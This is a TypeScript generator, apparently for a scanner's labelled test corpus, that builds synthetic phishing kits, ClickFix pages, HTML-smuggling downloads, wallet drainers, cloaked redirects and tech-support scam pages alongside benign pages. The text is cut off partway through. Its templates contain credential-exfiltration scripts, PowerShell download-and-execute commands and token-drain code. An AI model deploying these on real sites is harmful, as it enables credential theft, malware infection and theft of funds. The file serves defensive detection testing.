import { createHash } from 'node:crypto';
import { BENIGN_TLDS, BRANDS, HOST_WORDS, KIT_TLDS, LANGS, NEUTRAL_WORDS, T, b64, charCodes, escapeHtml, pctAll, pick, rng, shuffle, type KitBrand, type Lang, type Rng } from './kit-parts.js';

/**
 * The labelled detection corpus: ≥ 200 pages generated from templates of what the issue lists —
 * credential-harvest kits for ~30 brands in five languages and several layouts, webmail clones,
 * obfuscated kits, ClickFix pages, HTML smuggling, wallet drainers and seed-phrase pages, tech-support
 * scams, lures, cloaked kits, redirect chains, look-alike hosts, the brand@host trick; and benign
 * pages: companies' logins on their own domains, brands' logins on their own hostnames, docs, blogs,
 * shops, checkouts, password help, security write-ups quoting attacks, crypto news, harmless but
 * scary-looking scripts. Every page is served by a loopback HTTPS server under a fake hostname.
 */

export type Label = 'clean' | 'phishing' | 'malware' | 'scam' | 'cryptodrainer' | 'clickfix';

export type Route = { status: number; headers: Record<string, string>; body: string | Buffer };

export type CorpusPage = {
  id: string;
  label: Label;
  kind: string;
  /** What the scanner fetches (https://fake-host/path). */
  url: string;
  /** As the caller submitted it, when it differs (userinfo trick). */
  submittedUrl?: string;
  /** Every route this page needs, keyed "host/path" (redirect hops included). */
  routes: Record<string, Route>;
  /** Held out: not looked at while tuning the rules; reported separately. */
  heldOut: boolean;
};

const html = (body: string, extraHeaders: Record<string, string> = {}): Route => ({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8', ...extraHeaders }, body });

function page(title: string, body: string, opts: { lang?: string; head?: string; style?: string } = {}): string {
  return `<!doctype html><html lang="${opts.lang ?? 'en'}"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title><meta name="viewport" content="width=device-width, initial-scale=1">${opts.head ?? ''}<style>body{font-family:Segoe UI,Arial,sans-serif;margin:0;background:#f3f3f3}${opts.style ?? ''}</style></head><body>${body}</body></html>`;
}

// ---------------------------------------------------------------- hosts

function kitHost(r: Rng, brand: KitBrand | null): string {
  const tld = pick(r, KIT_TLDS);
  const w = (): string => pick(r, HOST_WORDS);
  const n = (): string => pick(r, NEUTRAL_WORDS);
  const num = Math.floor(r() * 900 + 100);
  if (!brand) return `${w()}-${n()}${num}.${tld}`;
  switch (Math.floor(r() * 7)) {
    case 0:
      return `${brand.slug}-${w()}.${tld}`;
    case 1:
      return `${w()}-${brand.slug}-${w()}.${tld}`;
    case 2: // brand in a subdomain of a throwaway domain
      return `${brand.slug}.${w()}-${w()}.${tld}`;
    case 3: // no brand in the host at all
      return `${n()}-${n()}${num}.${tld}`;
    case 4: // compromised small-business site
      return `www.${n()}${pick(r, ['bakery', 'dental', 'plumbing', 'studio', 'garden', 'yoga'])}.${pick(r, BENIGN_TLDS)}`;
    case 5: // look-alike spelling
      return `${brand.slug.replace(/o/, '0').replace(/l/, '1').replace(/i/, 'l')}-${w()}.${tld}`;
    default: // free hosting subdomain
      return `${n()}${num}.${pick(r, ['web-hosting-free.net', 'pages-site.dev', 'sites-builder.app', 'myftp-host.org'])}`;
  }
}

const companyNames = ['Acme Corp', 'Northwind Traders', 'Globex', 'Initech', 'Umbrella Health', 'Stark Logistics', 'Wayne Media', 'Hooli', 'Vandelay Industries', 'Soylent Foods', 'Cyberdyne Labs', 'Tyrell Systems', 'Massive Dynamic', 'Oscorp Energy', 'Pied Piper'];
const slugOf = (name: string): string => name.toLowerCase().replace(/[^a-z0-9]+/g, '');

// ---------------------------------------------------------------- page parts

function logo(r: Rng, brand: KitBrand): string {
  switch (Math.floor(r() * 3)) {
    case 0:
      return `<img src="/assets/logo.svg" alt="${escapeHtml(brand.name)}" width="108">`;
    case 1:
      return `<div class="logo" style="color:${brand.color};font-size:28px;font-weight:600">${escapeHtml(brand.name)}</div>`;
    default:
      return `<svg width="120" height="30" role="img" aria-label="${escapeHtml(brand.name)}"><rect width="30" height="30" fill="${brand.color}"/><text x="36" y="22">${escapeHtml(brand.name)}</text></svg>`;
  }
}

function loginForm(r: Rng, lang: Lang, action: string, opts: { extra?: string; emailValue?: string; id?: string } = {}): string {
  const t = T[lang];
  const names = pick(r, [
    ['email', 'password'],
    ['login', 'passwd'],
    ['username', 'pass'],
    ['user', 'pw'],
    ['loginfmt', 'passwd'],
  ]);
  const method = pick(r, ['post', 'POST', 'post']);
  return `<form id="${opts.id ?? 'f'}" method="${method}" action="${escapeHtml(action)}">
    <label for="u">${t.email}</label><input id="u" type="${pick(r, ['email', 'text'])}" name="${names[0]}" value="${escapeHtml(opts.emailValue ?? '')}" placeholder="${t.email}" required>
    <label for="p">${t.password}</label><input id="p" type="password" name="${names[1]}" placeholder="${t.password}" required>
    ${opts.extra ?? ''}
    <button type="submit">${pick(r, [t.signIn, t.next])}</button>
    <a href="#">${t.forgot}</a>
  </form>`;
}

function exfilScript(r: Rng, formId = 'f'): string {
  const token = `${Math.floor(r() * 9e9)}:AA${createHash('sha1').update(String(r())).digest('base64').replace(/[^A-Za-z0-9]/g, '').slice(0, 33)}`;
  const chat = Math.floor(r() * 9e8);
  const variants = [
    `var TOKEN="${token}",CHAT="${chat}";document.getElementById("${formId}").addEventListener("submit",function(e){e.preventDefault();var d=new FormData(this),m="";d.forEach(function(v,k){m+=k+": "+v+"\\n"});fetch("https://api.telegram.org/bot"+TOKEN+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:CHAT,text:m})}).then(function(){location.href="https://www.google.com/"})});`,
    `document.getElementById("${formId}").onsubmit=function(ev){ev.preventDefault();var x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/${chat}/${token.replace(':', '')}");x.setRequestHeader("Content-type","application/json");x.send(JSON.stringify({content:"user="+this.elements[0].value+" pass="+this.elements[1].value}));setTimeout(function(){location.replace("/done")},800)};`,
    `$("#${formId}").on("submit",function(e){e.preventDefault();$.ajax({url:"https://${pick(r, ['formspree.io/f/xq' + chat, 'getform.io/f/' + chat, 'submit-form.com/' + chat, 'webhook.site/' + chat.toString(16) + '-4a1b-9c2d-' + chat])}",type:"POST",data:$(this).serialize(),success:function(){window.location="https://outlook.office.com"}})});`,
    `const f=document.querySelector("#${formId}");f.addEventListener("submit",async e=>{e.preventDefault();const b=Object.fromEntries(new FormData(f));b.ip=await (await fetch("https://api.ipify.org?format=json")).json();await fetch("https://collect-${pick(r, NEUTRAL_WORDS)}.${pick(r, KIT_TLDS)}/gate.php",{method:"POST",mode:"no-cors",body:JSON.stringify(b)});location.href="/step2"});`,
  ];
  return `<script>${pick(r, variants)}</script>`;
}

// ---------------------------------------------------------------- malicious generators

type Gen = { label: Label; kind: string; host: string; path: string; body: string; submittedUrl?: string; extraRoutes?: Record<string, Route>; url?: string; headers?: Record<string, string> };

function credentialKit(r: Rng, brand: KitBrand): Gen {
  const lang = r() < 0.55 ? 'en' : pick(r, LANGS);
  const t = T[lang];
  const host = kitHost(r, brand);
  const layout = Math.floor(r() * 4);
  const action = pick(r, ['post.php', 'next.php', '/auth/verify.php', 'login.php?sid=' + Math.floor(r() * 1e6), '']);
  const withExfil = r() < 0.35;
  const title = pick(r, [`${t.signIn} - ${brand.name}`, `${brand.name} | ${t.signIn}`, `${brand.account}`, t.verify, `${t.signIn}`]);
  const form = loginForm(r, lang, withExfil ? '#' : action);
  const notice = r() < 0.5 ? `<p class="warn">${t.suspended}</p>` : '';
  const body =
    layout === 0
      ? `<div class="card">${logo(r, brand)}<h1>${t.signIn}</h1>${notice}${form}</div>`
      : layout === 1
        ? `<div class="split"><aside style="background:${brand.color}">${logo(r, brand)}<p>${brand.account}</p></aside><main><h2>${t.verify}</h2>${notice}${form}</main></div>`
        : layout === 2
          ? `<header>${logo(r, brand)}</header><section><h1>${brand.name}</h1><p>${t.signIn} — ${brand.account}</p>${form}</section><footer>© ${brand.name} ${2020 + Math.floor(r() * 6)}</footer>`
          : `<div class="modal-bg"><div class="modal"><h3>${t.verify}</h3>${logo(r, brand)}${notice}${form}</div></div>`;
  const path = pick(r, ['/', '/login', `/${brand.slug}/signin.html`, '/wp-content/plugins/x/index.html', '/secure/auth/', `/${Math.floor(r() * 1e6).toString(36)}/`]);
  return { label: 'phishing', kind: 'credential-kit', host, path, body: page(title, body + (withExfil ? exfilScript(r) : ''), { lang }) };
}

function otpCardKit(r: Rng, brand: KitBrand): Gen {
  const lang = r() < 0.6 ? 'en' : pick(r, LANGS);
  const t = T[lang];
  const host = kitHost(r, brand);
  const variant = Math.floor(r() * 3);
  let inner: string;
  if (variant === 0) {
    inner = `<h2>${t.verify}</h2><p>${t.code}</p><form method="post" action="otp.php"><input name="otp" inputmode="numeric" autocomplete="one-time-code" maxlength="6"><button>${t.next}</button></form>`;
  } else if (variant === 1) {
    inner = `<h2>${brand.kind === 'parcel' ? t.fee : t.verify}</h2><form method="post" action="pay.php"><label>${t.card}</label><input name="${pick(r, ['cc', 'cardnumber', 'ccnum', 'card_no'])}" autocomplete="cc-number" maxlength="19"><label>${t.expiry}</label><input name="exp" autocomplete="cc-exp"><label>${t.cvv}</label><input name="${pick(r, ['cvv', 'cvc', 'csc'])}" maxlength="4"><label>Name</label><input name="holder"><button>${t.pay}</button></form>`;
  } else {
    inner = `<h2>${t.verify}</h2><form method="post" action="verify.php"><label>Full name</label><input name="fullname"><label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY"><label>Social Security Number</label><input name="ssn" placeholder="XXX-XX-XXXX" maxlength="11"><label>${t.card}</label><input name="card" maxlength="19"><label>ATM PIN</label><input name="pin" type="password" maxlength="4"><button>${t.next}</button></form>`;
  }
  const title = pick(r, [`${brand.name} - ${t.verify}`, `${brand.name}`, `${brand.account} - ${t.verify}`]);
  return { label: 'phishing', kind: variant === 0 ? 'otp-kit' : variant === 1 ? 'card-kit' : 'identity-kit', host, path: pick(r, ['/verify', '/step2.html', '/billing/update', '/track/fee']), body: page(title, `<div class="card">${logo(r, brand)}${inner}</div>`, { lang }) };
}

function webmailClone(r: Rng): Gen {
  const product = pick(r, ['Roundcube Webmail', 'Zimbra Web Client', 'Outlook Web App', 'Webmail', 'cPanel Webmail', 'Horde']);
  const victimDomain = `${slugOf(pick(r, companyNames))}.${pick(r, BENIGN_TLDS)}`;
  const email = `j.doe@${victimDomain}`;
  const lure = pick(r, [
    'Your mailbox has exceeded its storage limit. Sign in to upgrade your quota or incoming messages will be rejected.',
    'Your email password expires today. Confirm your current password to keep it.',
    'You have 4 pending messages held in quarantine. Log in to release them.',
    'Account verification required: verify your email account within 24 hours to avoid deactivation.',
  ]);
  const form = loginForm(r, 'en', pick(r, ['mail.php', 'owa.php', 'https://' + kitHost(r, null) + '/m.php']), { emailValue: email });
  const script = r() < 0.5 ? exfilScript(r) : `<script>var e=location.hash.substr(1);if(e){document.getElementById("u").value=atob(e)}</script>`;
  return {
    label: 'phishing',
    kind: 'webmail-clone',
    host: kitHost(r, null),
    path: pick(r, ['/webmail/', '/mail/index.html', '/owa/auth/logon.htm', '/']),
    body: page(`${victimDomain} :: ${product}`, `<div class="box"><h2>${product}</h2><p>${lure}</p>${form}</div>${script}`),
  };
}

function obfuscatedKit(r: Rng, brand: KitBrand): Gen {
  const inner = credentialKit(r, brand);
  const kitBody = inner.body;
  const style = Math.floor(r() * 4);
  let body: string;
  if (style === 0) body = `<!doctype html><html><head><title>&#8203;</title></head><body><script>document.write(atob("${b64(kitBody)}"));</script></body></html>`;
  else if (style === 1) body = `<html><head><script type="text/javascript">document.write(unescape('${pctAll(kitBody)}'));</script></head><body></body></html>`;
  else if (style === 2) {
    const parts = b64(kitBody).match(/.{1,120}/g) ?? [];
    body = `<html><head><title>Loading…</title></head><body><script>var _0x${Math.floor(r() * 0xffff).toString(16)}=[${parts.map((p) => `"${p}"`).join(',')}];var _d=_0x${''}`;
    body = `<html><head><title>Loading...</title></head><body><script>var _0xa=[${parts.map((p) => `"${p}"`).join(',')}];var _0xb=function(i){return _0xa[i]};var s="";for(var i=0;i<_0xa.length;i++){s+=_0xb(i)}document.documentElement.innerHTML=decodeURIComponent(escape(window["at"+"ob"](s)));</script></body></html>`;
  } else body = `<html><body><script>eval(String.fromCharCode(${charCodes(`document.open();document.write(decodeURIComponent("${encodeURIComponent(kitBody)}"));document.close();`)}))</script></body></html>`;
  return { label: 'phishing', kind: 'obfuscated-kit', host: inner.host, path: inner.path, body };
}

function clickFix(r: Rng): Gen {
  const payload = pick(r, [
    `powershell -w hidden -nop -c "iwr https://${kitHost(r, null)}/c.ps1 -UseBasicParsing | iex"`,
    `mshta https://${kitHost(r, null)}/verify.hta # ✅ I am not a robot - reCAPTCHA Verification ID: ${Math.floor(r() * 9999)}`,
    `cmd /c curl -s https://${kitHost(r, null)}/s.bat -o %TEMP%\\s.bat && %TEMP%\\s.bat`,
    `powershell -EncodedCommand ${Buffer.from('IEX (New-Object Net.WebClient).DownloadString("https://x/a")', 'utf16le').toString('base64')}`,
    `conhost --headless powershell -c "$u='https://${kitHost(r, null)}/p';iex(irm $u)"`,
  ]);
  const copier = pick(r, [
    `navigator.clipboard.writeText(${JSON.stringify(payload)});`,
    `var t=document.createElement("textarea");t.value=${JSON.stringify(payload)};document.body.appendChild(t);t.select();document.execCommand("copy");t.remove();`,
    `const c=atob("${b64(payload)}");navigator.clipboard.writeText(c).then(()=>{document.getElementById("steps").style.display="block"});`,
  ]);
  const lang = pick(r, ['en', 'en', 'fr', 'de']);
  const steps =
    lang === 'en'
      ? pick(r, [
          '<ol><li>Press <b>Windows Button</b> + <b>R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol>',
          '<p>To complete verification: press Win+R, paste the code with Ctrl+V and press Enter.</p>',
          '<ol><li>Press <kbd>Win</kbd> + <kbd>X</kbd> and open Terminal</li><li>Right-click to paste</li><li>Press Enter to verify you are human</li></ol>',
        ])
      : lang === 'fr'
        ? '<ol><li>Appuyez sur la touche Windows + R</li><li>Appuyez sur Ctrl + V</li><li>Appuyez sur Entrée</li></ol>'
        : '<ol><li>Drücken Sie Windows-Taste + R</li><li>Drücken Sie Strg + V</li><li>Drücken Sie Enter</li></ol>';
  const shell = pick(r, [
    `<div class="captcha"><input type="checkbox" id="cb"> <label for="cb">I'm not a robot</label><small>reCAPTCHA Privacy - Terms</small></div><div id="steps" style="display:none"><h3>Verification steps</h3>${steps}</div>`,
    `<h1>Checking if the site connection is secure</h1><p>Verify you are human by completing the action below.</p><button id="cb">Verify</button><div id="steps">${steps}</div>`,
    `<div class="err"><h2>Something went wrong while displaying this webpage</h2><p>To fix the error, install the missing font update.</p><button id="cb">Fix it</button><div id="steps">${steps}</div></div>`,
  ]);
  return {
    label: 'clickfix',
    kind: 'clickfix',
    host: kitHost(r, null),
    path: pick(r, ['/', '/verify', '/captcha.html', '/cdn-cgi/challenge']),
    body: page(pick(r, ['Just a moment...', 'reCAPTCHA verification', 'Verify you are human', 'Error']), `${shell}<script>document.getElementById("cb").addEventListener("click",function(){${copier}});</script>`, { lang }),
  };
}

function smuggling(r: Rng): Gen {
  const name = pick(r, ['Invoice_2024_0932.zip', 'Scan_Document.iso', 'payment-advice.html.exe', 'DHL_AWB_Receipt.img', 'Remittance.vhd', 'Statement.js', 'update.msi', 'report.7z']);
  // A few bytes of the real format's header, then filler: what a smuggler decodes and saves.
  const magic = name.endsWith('.zip') ? 'UEsDBBQAAAAIA' : name.endsWith('.exe') || name.endsWith('.msi') ? 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAA' : name.endsWith('.7z') ? 'N3q8ryccAAR' : 'Q0QwMDE';
  const blob = magic + b64(createHash('sha512').update(name + r()).digest('hex').repeat(40));
  const variant = Math.floor(r() * 3);
  const script =
    variant === 0
      ? `var b64="${blob}";var bin=atob(b64);var u=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++){u[i]=bin.charCodeAt(i)}var blob=new Blob([u],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="${name}";document.body.appendChild(a);a.click();`
      : variant === 1
        ? `function s(d){var r=window.atob(d),n=r.length,a=new Uint8Array(n);while(n--){a[n]=r.charCodeAt(n)}return a}var f=new Blob([s("${blob}")],{type:"application/zip"});if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(f,"${name}")}else{var l=document.createElement("a");l.href=window.URL.createObjectURL(f);l.download="${name}";l.click()}`
        : '';
  const body =
    variant === 2
      ? `<p>Your document is ready.</p><a id="d" href="data:application/octet-stream;base64,${blob}" download="${name}">Download ${name}</a><script>document.getElementById("d").click()</script>`
      : `<p>${pick(r, ['Your file is downloading…', 'Please wait while your secure document is prepared.', 'Download started. Open the file to view your invoice.'])}</p><script>${script}</script>`;
  return { label: 'malware', kind: 'html-smuggling', host: kitHost(r, null), path: pick(r, ['/', '/doc/view', '/download.html', '/share/' + Math.floor(r() * 1e5)]), body: page(pick(r, ['Document', 'Secure File Transfer', 'OneDrive', 'Invoice']), body) };
}

/** A one-entry stored ZIP (local file header, data, no central directory needed for the listing). */
function zipWith(name: string): Buffer {
  const data = Buffer.alloc(256, 0x41);
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(data.length, 22);
  header.writeUInt16LE(Buffer.byteLength(name), 26);
  return Buffer.concat([header, Buffer.from(name), data]);
}

function malwareDownload(r: Rng): Gen {
  const host = kitHost(r, null);
  const name = pick(r, ['setup.exe', 'invoice.zip', 'ChromeUpdate.msi', 'document.iso']);
  const isZip = name.endsWith('.zip');
  const payload = isZip ? zipWith(pick(r, ['invoice_scan.pdf.exe', 'Invoice.js', 'scan_0231.lnk', 'readme.txt.scr'])) : name.endsWith('.iso') ? Buffer.concat([Buffer.alloc(0x8001, 0), Buffer.from('CD001')]) : Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(300, 1)]);
  return {
    label: 'malware',
    kind: 'payload-download',
    host,
    path: `/get/${name}`,
    body: '',
    extraRoutes: {
      [`${host}/get/${name}`]: { status: 200, headers: { 'content-type': pick(r, ['application/octet-stream', 'application/x-msdownload', 'application/zip']), 'content-disposition': `attachment; filename="${name}"` }, body: payload },
    },
  };
}

function drainer(r: Rng): Gen {
  const project = pick(r, ['PepeDAO', 'Arbitrum', 'zkSync', 'Blur', 'LayerZero', 'Uniswap', 'OpenSea', 'Azuki', 'Celestia']);
  const spender = '0x' + createHash('sha1').update(String(r())).digest('hex');
  const variant = Math.floor(r() * 3);
  const js =
    variant === 0
      ? `async function claim(){const [acc]=await window.ethereum.request({method:"eth_requestAccounts"});const c=new ethers.Contract(TOKEN,["function approve(address,uint256)"],(new ethers.providers.Web3Provider(window.ethereum)).getSigner());await c.approve("${spender}",ethers.constants.MaxUint256);}`
      : variant === 1
        ? `const provider=window.ethereum;provider.request({method:'eth_requestAccounts'}).then(async a=>{for(const nft of await loadNfts(a[0])){await new web3.eth.Contract(ABI,nft).methods.setApprovalForAll("${spender}",true).send({from:a[0]})}});`
        : `async function connect(){let w=await ethereum.request({method:"eth_requestAccounts"});const sig=await ethereum.request({method:"eth_signTypedData_v4",params:[w[0],JSON.stringify({primaryType:"Permit",message:{spender:"${spender}",value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",deadline:9999999999}})]});await fetch("/api/p",{method:"POST",body:sig});const bal=await ethereum.request({method:"eth_getBalance",params:[w[0],"latest"]});ethereum.request({method:"eth_sendTransaction",params:[{from:w[0],to:"${spender}",value:bal}]})}`;
  return {
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    host: `${project.toLowerCase()}-${pick(r, ['airdrop', 'claim', 'rewards', 'mint', 'drop'])}.${pick(r, KIT_TLDS)}`,
    path: pick(r, ['/', '/claim', '/mint']),
    body: page(`${project} ${pick(r, ['Airdrop', 'Claim', 'Free Mint', 'Rewards'])}`, `<h1>${project} ${pick(r, ['Airdrop is live', 'Season 2 rewards', 'Free mint — 500 left'])}</h1><p>Connect your wallet to check eligibility and claim your tokens.</p><button onclick="${variant === 0 ? 'claim()' : 'connect()'}">Connect Wallet</button><script>${js}</script>`),
  };
}

function seedPhrase(r: Rng): Gen {
  const brand = pick(r, ['MetaMask', 'Trust Wallet', 'Ledger Live', 'Phantom', 'Coinbase Wallet', 'Exodus']);
  const words = pick(r, [12, 12, 24, 18]);
  const variant = Math.floor(r() * 3);
  const form =
    variant === 0
      ? `<form method="post" action="${pick(r, ['import.php', 'https://' + kitHost(r, null) + '/k'])}">${Array.from({ length: words }, (_, i) => `<input name="word${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}<button>Import wallet</button></form>`
      : variant === 1
        ? `<form id="f" action="#"><textarea name="phrase" rows="4" placeholder="Enter your ${words}-word recovery phrase separated by spaces"></textarea><button>Restore</button></form>${exfilScript(r)}`
        : `<form method="post" action="sync.php"><label>Secret Recovery Phrase</label><textarea name="mnemonic"></textarea><p>Or private key</p><input name="privatekey" placeholder="Private key (64 hex characters)"><input type="password" name="pwd" placeholder="New password"><button>Validate wallet</button></form>`;
  return {
    label: 'phishing',
    kind: 'seed-phrase',
    host: `${pick(r, ['wallet', 'dapp', 'sync', 'validate', 'rectify'])}-${pick(r, NEUTRAL_WORDS)}.${pick(r, KIT_TLDS)}`,
    path: pick(r, ['/', '/import', '/restore.html']),
    body: page(`${brand} - ${pick(r, ['Restore your wallet', 'Wallet validation', 'Synchronise'])}`, `<h1>${brand}</h1><p>${pick(r, ['Your wallet needs to be validated due to a network upgrade.', 'Import your wallet using your Secret Recovery Phrase.', 'Rectify transaction errors by synchronising your wallet.'])}</p>${form}`),
  };
}

function techSupport(r: Rng): Gen {
  const phone = `+1-${pick(r, ['888', '877', '866', '855', '844'])}-${Math.floor(r() * 900 + 100)}-${Math.floor(r() * 9000 + 1000)}`;
  const who = pick(r, ['Microsoft', 'Windows Defender', 'Apple', 'Norton', 'McAfee']);
  const variant = Math.floor(r() * 3);
  const tricks = [
    `<audio autoplay loop src="/alert.mp3"></audio><script>document.addEventListener("click",function(){document.documentElement.requestFullscreen()});setInterval(function(){alert("VIRUS ALERT! Call ${phone}")},3000);window.onbeforeunload=function(){return "Your computer is at risk"};</script>`,
    `<script>for(var i=0;i<5;i++){alert("Windows Security Warning: Trojan detected. Call Support ${phone}")}history.pushState(null,null,location.href);window.onpopstate=function(){history.go(1)};</script>`,
    `<script>var a=new Audio("data:audio/mp3;base64,SUQzBAAAAAAA");a.loop=true;a.play();document.body.onclick=function(){document.body.webkitRequestFullscreen()}</script>`,
  ];
  const lines = [
    `<h1>${who} Security Alert</h1><p>Your computer has been blocked. Error # 0x80070424. Your personal data, passwords and banking information are at risk. Do not close this window or restart your computer.</p><h2>Call ${who} Support: ${phone} (Toll Free)</h2>`,
    `<div class="bsod"><p>** ${who.toUpperCase()} WARNING — PORNOGRAPHIC SPYWARE DETECTED **</p><p>Please call us immediately at ${phone}. Do not ignore this critical alert.</p></div>`,
    `<h2>Your PC is infected with 5 viruses!</h2><p>Contact ${who} Technical Support at <a href="tel:${phone}">${phone}</a> to remove them now. Unauthorised access detected.</p>`,
  ];
  return { label: 'scam', kind: 'tech-support', host: kitHost(r, null), path: pick(r, ['/', '/alert/index.html', '/win/err0x', '/?error=DW6VB36']), body: page(pick(r, ['Security Alert', 'Windows Defender - Security Warning', 'VIRUS ALERT', `${who} Support`]), lines[variant % 3]! + tricks[Math.floor(r() * 3)]) };
}

function docLure(r: Rng, brand: KitBrand): Gen {
  const kit = `https://${kitHost(r, brand)}/${pick(r, ['view', 'doc', 'auth'])}/?id=${Math.floor(r() * 1e8)}`;
  const sender = `${pick(r, ['accounts', 'hr', 'payroll', 'finance'])}@${slugOf(pick(r, companyNames))}.com`;
  return {
    label: 'phishing',
    kind: 'document-lure',
    host: kitHost(r, brand),
    path: pick(r, ['/', '/shared/', '/file.html']),
    body: page(`${brand.name} - ${pick(r, ['Shared document', 'You have a new document', 'Secure message'])}`, `<div class="card">${logo(r, brand)}<h2>${sender} has shared a file with you</h2><p>${pick(r, ['Q3 Payroll Adjustment.pdf', 'Remittance advice.xlsx', 'Contract_Review.docx'])} (2 pages)</p><p>To view this secure document, sign in with your email account.</p><a class="btn" href="${kit}">${pick(r, ['Review Document', 'View File', 'Open Document', 'Access Document'])}</a></div>`),
  };
}

function cloakedKit(r: Rng, brand: KitBrand): Gen {
  const kitUrl = `https://${kitHost(r, brand)}/${brand.slug}/login.php`;
  const variant = Math.floor(r() * 2);
  const gate =
    variant === 0
      ? `if(navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse/i.test(navigator.userAgent)||window.outerWidth===0){document.body.innerHTML="<h1>404 Not Found</h1>"}else{location.replace("${kitUrl}?e="+btoa(location.hash.slice(1)))}`
      : `fetch("https://ipapi.co/json/").then(r=>r.json()).then(d=>{if(d.country_code==="US"&&!navigator.webdriver&&!/google|microsoft|amazon|digitalocean/i.test(d.org)){window.location.href="${kitUrl}"}else{window.location.href="https://www.wikipedia.org/"}})`;
  return { label: 'phishing', kind: 'cloaked-kit', host: kitHost(r, null), path: pick(r, ['/', '/index.html', '/r/' + Math.floor(r() * 1e5)]), body: page(pick(r, ['', 'Loading', 'Please wait']), `<p>Loading…</p><script>${gate}</script>`) };
}

function redirectChain(r: Rng, brand: KitBrand): Gen {
  const kit = credentialKit(r, brand);
  const hops = 1 + Math.floor(r() * 3);
  const hosts = Array.from({ length: hops }, () => pick(r, ['t.' + pick(r, NEUTRAL_WORDS) + '-mail.com', 'click.' + pick(r, NEUTRAL_WORDS) + 'track.net', 'go.' + pick(r, NEUTRAL_WORDS) + 'link.io', kitHost(r, null)]));
  const routes: Record<string, Route> = {};
  let next = `https://${kit.host}${kit.path}`;
  const ids = hosts.map((_, i) => `/r/${i}${Math.floor(r() * 1e5)}`);
  for (let i = hops - 1; i >= 0; i -= 1) {
    routes[`${hosts[i]}${ids[i]}`] = { status: pick(r, [301, 302, 302, 307]), headers: { location: next }, body: '' };
    next = `https://${hosts[i]}${ids[i]}`;
  }
  routes[`${kit.host}${kit.path}`] = html(kit.body);
  return { label: 'phishing', kind: 'redirect-chain', host: hosts[0]!, path: ids[0]!, body: '', extraRoutes: routes };
}

function userinfoTrick(r: Rng, brand: KitBrand): Gen {
  const kit = credentialKit(r, brand);
  return { ...kit, kind: 'userinfo-trick', submittedUrl: `https://${brand.ownHost}@${kit.host}${kit.path}` };
}

function punycodeKit(r: Rng, brand: KitBrand): Gen {
  const kit = credentialKit(r, brand);
  // Cyrillic look-alikes inside the brand slug, as an IDN host (served under its punycode form).
  const swapped = brand.slug.replace(/a/, 'а').replace(/o/, 'о').replace(/e/, 'е').replace(/p/, 'р');
  const host = new URL(`https://${swapped}-${pick(r, HOST_WORDS)}.${pick(r, ['com', 'net', 'top'])}/`).hostname;
  return { ...kit, kind: 'punycode-host', host };
}

// ---------------------------------------------------------------- benign generators

function companyLogin(r: Rng): Gen {
  const company = pick(r, companyNames);
  const domain = `${slugOf(company)}.${pick(r, BENIGN_TLDS)}`;
  const host = pick(r, [`login.${domain}`, `portal.${domain}`, `www.${domain}`, `sso.${domain}`, `mail.${domain}`]);
  const lang = pick(r, LANGS);
  const isMail = host.startsWith('mail.');
  const extra = r() < 0.3 ? `<label>${T[lang].code}</label><input name="otp" autocomplete="one-time-code" inputmode="numeric">` : '';
  const title = isMail ? `${company} :: Roundcube Webmail` : `${T[lang].signIn} | ${company}`;
  const mentions = r() < 0.4 ? `<p>Use your ${company} credentials. ${pick(r, ['You can also sign in with Microsoft or Google.', 'Single sign-on with Google Workspace is available.', 'Employees: use your Office 365 password.'])}</p>` : '';
  return { label: 'clean', kind: 'company-login', host, path: pick(r, ['/', '/login', '/auth/signin', '/webmail/']), body: page(title, `<header><b>${company}</b></header><main><h1>${T[lang].signIn}</h1>${mentions}${loginForm(r, lang, pick(r, ['/session', '/login', `https://sso.${domain}/auth`]))}</main><script src="/static/app.${Math.floor(r() * 1e6).toString(16)}.js"></script>`, { lang }) };
}

function brandOwnLogin(r: Rng, brand: KitBrand): Gen {
  const lang = pick(r, LANGS);
  const form = brand.kind === 'crypto' && brand.name === 'MetaMask' ? '<p>Download MetaMask for your browser. Never share your Secret Recovery Phrase.</p><a href="/download">Download</a>' : loginForm(r, lang, brand.loginPath);
  return { label: 'clean', kind: 'brand-own-login', host: brand.ownHost, path: brand.loginPath, body: page(`${T[lang].signIn} - ${brand.name}`, `<div class="card">${logo(r, brand)}<h1>${T[lang].signIn}</h1><p>${brand.account}</p>${form}</div>`, { lang }) };
}

const loremish = (r: Rng, n: number): string =>
  Array.from({ length: n }, () => pick(r, ['Our team shipped a new release this week.', 'Performance improved across the board.', 'We explain the trade-offs below.', 'Read the migration guide before upgrading.', 'Customers asked for better exports.', 'This article walks through the setup step by step.', 'Thanks to everyone who sent feedback.', 'Prices include VAT where applicable.'])).join(' ');

function blogOrDocs(r: Rng): Gen {
  const site = `${pick(r, ['docs', 'blog', 'www', 'dev', 'engineering'])}.${pick(r, NEUTRAL_WORDS)}${pick(r, ['soft', 'labs', 'press', 'hq'])}.${pick(r, BENIGN_TLDS)}`;
  const topic = pick(r, ['Configuring the API client', 'Release notes 4.2', 'How we scaled our queue', 'Getting started', 'A week in Lisbon', 'Recipe: sourdough']);
  const legacy = r() < 0.4 ? `<script>var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-${Math.floor(r() * 1e6)}-1']);(function(){var ga=document.createElement('script');ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';document.write(unescape("%3Cscript src='"+ga.src+"' type='text/javascript'%3E%3C/script%3E"));})();</script>` : '';
